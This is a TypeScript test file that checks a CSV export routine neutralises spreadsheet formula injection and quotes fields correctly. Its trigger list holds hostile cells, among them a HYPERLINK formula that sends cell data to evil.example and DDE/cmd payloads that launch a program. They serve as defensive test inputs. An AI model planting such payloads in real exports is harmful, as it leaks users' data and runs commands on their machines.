// CSV the extension writes: formula injection neutralised (OWASP), quoting round-trips through an
// independent reader (csv-parse).
import * as assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import type { UsageRecord } from '../../../src/core/api';
import { csvText, usageCsv } from '../../../src/core/reports';

const TRIGGERS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '+cmd',
  '-cmd',
  '@cmd',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];

describe('CSV writing', () => {
  it('neutralises every formula-trigger cell (12 of 12) and keeps the text readable', () => {
    for (const cell of TRIGGERS) {
      const read = (parse(csvText(cell) + '\r\n') as string[][])[0]?.[0] ?? '';
      assert.equal(read, `'${cell}`, JSON.stringify(cell));
      assert.doesNotMatch(read, /^[=+\-@\t\r]/);
    }
  });

  it('leaves ordinary text alone and quotes only what needs it', () => {
    assert.equal(csvText('aws-va'), 'aws-va');
    assert.equal(csvText('Acme, Inc.'), '"Acme, Inc."');
    assert.equal(csvText('say "hi"'), '"say ""hi"""');
    assert.equal(csvText('two\nlines'), '"two\nlines"');
  });

  it('writes a usage export with hostile names that a spreadsheet opens as text, numbers as numbers', () => {
    const record = (over: Partial<UsageRecord>): UsageRecord => ({
      datacenter: 'aws-va',
      time: '2026-11-01T00:00:00',
      day: '2026-11-01',
      hoursUsed: 1.5,
      instanceType: 'g4dn.xlarge',
      serverType: 'production',
      ...over,
    });
    const csv = usageCsv([
      { account: TRIGGERS[0]!, record: record({ datacenter: '@evil', instanceType: '-2+3', serverType: '+cmd' }) },
      { account: 'Plain', record: record({ hoursUsed: -0.5 }) },
    ]);
    const rows = parse(csv) as string[][];
    assert.deepEqual(rows[0], ['account', 'date (Pacific time)', 'datacenter', 'instance_type', 'server_type', 'hours_used']);
    const hostile = rows.find((r) => r[0]!.includes('HYPERLINK'))!;
    assert.deepEqual(hostile.slice(0, 5), [`'${TRIGGERS[0]}`, '2026-11-01', "'@evil", "'-2+3", "'+cmd"]);
    assert.equal(hostile[5], '1.5');
    assert.equal(rows.find((r) => r[0] === 'Plain')![5], '-0.5', 'a negative number stays a number');
    for (const r of rows.slice(1)) for (const cell of r.slice(0, 5)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  });
});
